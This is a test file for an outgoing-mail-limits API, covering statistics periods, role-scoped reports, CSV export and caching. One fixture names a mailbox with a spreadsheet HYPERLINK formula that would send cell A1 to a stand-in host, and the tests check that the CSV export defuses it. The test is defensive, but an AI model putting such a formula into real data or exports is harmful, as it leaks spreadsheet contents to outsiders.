import { describe, expect, it } from 'vitest';
import { ADMIN, ApiHarness, harnessForEachTest, JDOE, MARY, ok, refused, RES1 } from '../../test-support/api-harness.js';
import { exampleDirectory } from '../../test-support/directory-fixture.js';
import type { ReportRow } from '../core/report.js';
import type { HourBucket } from '../store/hourly-stats.js';

/**
 * 31-day statistics and the report through the API (example directory: jdoe owns example.com of reseller res1
 * with alice, bob, carol, dave and erin; mary owns other.org with mallory). Hourly defaults: mailbox 3, domain 5.
 */

let h: ApiHarness;

type Stats = { period: string | null; bucketHours: number; buckets: HourBucket[] };

describe('GET /stats?period', () => {
  harnessForEachTest((started) => (h = started));

  it('answers 24 hourly bars, 28 bars of 6 hours or 31 daily bars, and says how long a bar is', async () => {
    h.sendMany('alice@example.com', 2);
    const day = await ok<Stats>(h.get(ADMIN, '/api/v1/stats?level=mailbox&name=alice@example.com&period=24h'));
    const week = await ok<Stats>(h.get(ADMIN, '/api/v1/stats?level=mailbox&name=alice@example.com&period=7d'));
    const month = await ok<Stats>(h.get(ADMIN, '/api/v1/stats?period=31d'));
    expect([day.period, day.bucketHours, day.buckets.length]).toEqual(['24h', 1, 24]);
    expect([week.period, week.bucketHours, week.buckets.length]).toEqual(['7d', 6, 28]);
    expect([month.period, month.bucketHours, month.buckets.length]).toEqual(['31d', 24, 31]);
    expect(week.buckets.at(-1)?.sent).toBe(2);
    expect(month.buckets.at(-1)?.sent).toBe(2);
    expect(new Date(month.buckets.at(-1)!.start).getUTCHours()).toBe(0);
    // The default stays a day of hours.
    expect((await ok<Stats>(h.get(ADMIN, '/api/v1/stats'))).buckets).toHaveLength(24);
  });

  it('refuses an unknown period, and hours beside a period, saying which field', async () => {
    expect((await refused(h.get(ADMIN, '/api/v1/stats?period=1y'))).fields).toHaveProperty('period');
    expect((await refused(h.get(ADMIN, '/api/v1/stats?period=7d&hours=3'))).fields).toEqual({ period: 'give hours or period, not both' });
  });

  it('lists period in the OpenAPI document', async () => {
    const document = await ok<{ paths: Record<string, { get: { parameters: Array<{ name: string; schema: { enum?: string[] } }> } }> }>(h.get(null, '/api/v1/openapi.json'));
    expect(document.paths['/api/v1/stats']?.get.parameters.find((p) => p.name === 'period')?.schema.enum).toEqual(['24h', '7d', '31d']);
  });
});

describe('GET /report', () => {
  // A hostile customer may name a mailbox so that a spreadsheet would run it as a formula.
  const FORMULA = '=HYPERLINK("http://x.test/?",A1)@example.com';
  harnessForEachTest(
    (started) => {
      h = started;
      // alice: 2 hourly over-limit events; bob's domain (limit 5) trips once; mallory once; an older event of carol.
      expect(h.sendMany('carol@example.com', 4)).toBe(3);
      h.advance(10 * 86_400);
      expect(h.sendMany('alice@example.com', 5)).toBe(3);
      expect(h.sendMany('bob@example.com', 3)).toBe(2);
      expect(h.sendMany('mallory@other.org', 4)).toBe(3);
      h.advance(3600);
      expect(h.sendMany(FORMULA, 4)).toBe(3);
    },
    () => {
      const directory = exampleDirectory();
      directory.subscriptions[0]!.domains[0]!.mailboxes.push({ address: FORMULA, limit: null });
      return { directory };
    },
  );

  const names = (rows: ReportRow[]) => rows.map((row) => `${row.level} ${row.name}`);

  it('shows each role what it may see: the admin everything, a reseller its customers\', a customer their own', async () => {
    const formula = FORMULA;
    const all = await ok<{ since: string; items: ReportRow[] }>(h.get(ADMIN, '/api/v1/report?since=7d'));
    expect(all.since).toBe('7d');
    expect(names(all.items)).toEqual(['mailbox alice@example.com', `mailbox ${formula}`, 'domain example.com', 'mailbox mallory@other.org']);
    expect(all.items[0]).toEqual({
      level: 'mailbox',
      name: 'alice@example.com',
      customer: 'jdoe',
      reseller: 'res1',
      overLimitEvents: 2,
      hourlyLimitReached: 2,
      dailyLimitReached: 0,
      held: 2,
      deferred: 0,
      anomalies: 0,
      lastEventAt: new Date(h.nowMs - 3_600_000).toISOString(),
      hourlyLimit: 3,
      dailyLimit: 'unlimited',
    });
    expect(names((await ok<{ items: ReportRow[] }>(h.get(RES1, '/api/v1/report?since=7d'))).items)).toEqual(names(all.items).filter((n) => !n.includes('other.org')));
    expect(names((await ok<{ items: ReportRow[] }>(h.get(JDOE, '/api/v1/report'))).items)).toEqual(names(all.items).filter((n) => !n.includes('other.org')));
    expect(names((await ok<{ items: ReportRow[] }>(h.get(MARY, '/api/v1/report'))).items)).toEqual(['mailbox mallory@other.org']);
    // Eleven days back reaches carol's older event.
    expect(names((await ok<{ items: ReportRow[] }>(h.get(ADMIN, '/api/v1/report?since=11d'))).items)).toContain('mailbox carol@example.com');
  });

  it('refuses a period outside 1d..31d, saying so', async () => {
    for (const since of ['0d', '32d', '7', 'abc', '-1d']) {
      expect((await refused(h.get(ADMIN, `/api/v1/report?since=${since}`))).fields).toEqual({ since: 'must be a number of days from 1d to 31d, like 7d' });
    }
    expect((await refused(h.get(ADMIN, '/api/v1/report?format=xlsx'))).fields).toHaveProperty('format');
  });

  it('answers CSV for format=csv or Accept: text/csv: a header row, RFC 4180 quoting, formulas defused', async () => {
    const byFormat = await h.get(JDOE, '/api/v1/report?since=7d&format=csv');
    const byAccept = await h.get(JDOE, '/api/v1/report?since=7d', { headers: { accept: 'text/csv' } });
    for (const answer of [byFormat, byAccept]) {
      expect(answer.statusCode).toBe(200);
      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="outgoing-mail-limits-report-7d-\d{4}-\d{2}-\d{2}\.csv"$/);
    }
    expect(byAccept.body).toBe(byFormat.body);
    const lines = byFormat.body.split('\r\n');
    expect(lines[0]).toBe(
      'level,name,customer,reseller,over_limit_events,hourly_limit_reached,daily_limit_reached,held,deferred,anomalies,last_event_at,hourly_limit,daily_limit',
    );
    expect(lines[1]).toMatch(/^mailbox,alice@example\.com,jdoe,res1,2,2,0,2,0,0,[0-9T:.Z-]+,3,unlimited$/);
    // The formula is quoted (it holds quotes and a comma), its quotes doubled, and starts with ' so it is text.
    expect(lines[2]).toMatch(/^mailbox,"'=HYPERLINK\(""http:\/\/x\.test\/\?"",A1\)@example\.com",jdoe,res1,1,/);
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(5);
  });

  it('is in the OpenAPI document with both media types', async () => {
    const document = await ok<{ paths: Record<string, { get: { responses: Record<string, { content?: Record<string, unknown> }> } }> }>(h.get(null, '/api/v1/openapi.json'));
    expect(Object.keys(document.paths['/api/v1/report']?.get.responses['200']?.content ?? {})).toEqual(['application/json', 'text/csv']);
  });

  it('reads the events of a period at most every 30 seconds, by the time index, and then again', async () => {
    const count = async () => (await ok<{ items: ReportRow[] }>(h.get(ADMIN, '/api/v1/report?since=1d'))).items.find((r) => r.name === 'alice@example.com')?.overLimitEvents;
    h.advance(3600);
    expect(await count()).toBe(2);
    expect(h.sendMany('alice@example.com', 5)).toBe(3);
    h.advance(29);
    expect(await count()).toBe(2); // the reading of 29 seconds ago still serves its period
    expect((await ok<{ items: ReportRow[] }>(h.get(ADMIN, '/api/v1/report?since=31d'))).items.map((r) => r.name)).toContain('carol@example.com');
    h.advance(1);
    expect(await count()).toBe(4);
    const plan = h.db
      .prepare(`EXPLAIN QUERY PLAN SELECT level, object_id FROM over_limit_events INDEXED BY over_limit_events_at WHERE at_ms >= 1 AND at_ms <= 2 GROUP BY level, object_id`)
      .all() as Array<{ detail: string }>;
    expect(plan.map((step) => step.detail).join('; ')).toMatch(/SEARCH over_limit_events USING INDEX over_limit_events_at/);
  });
});
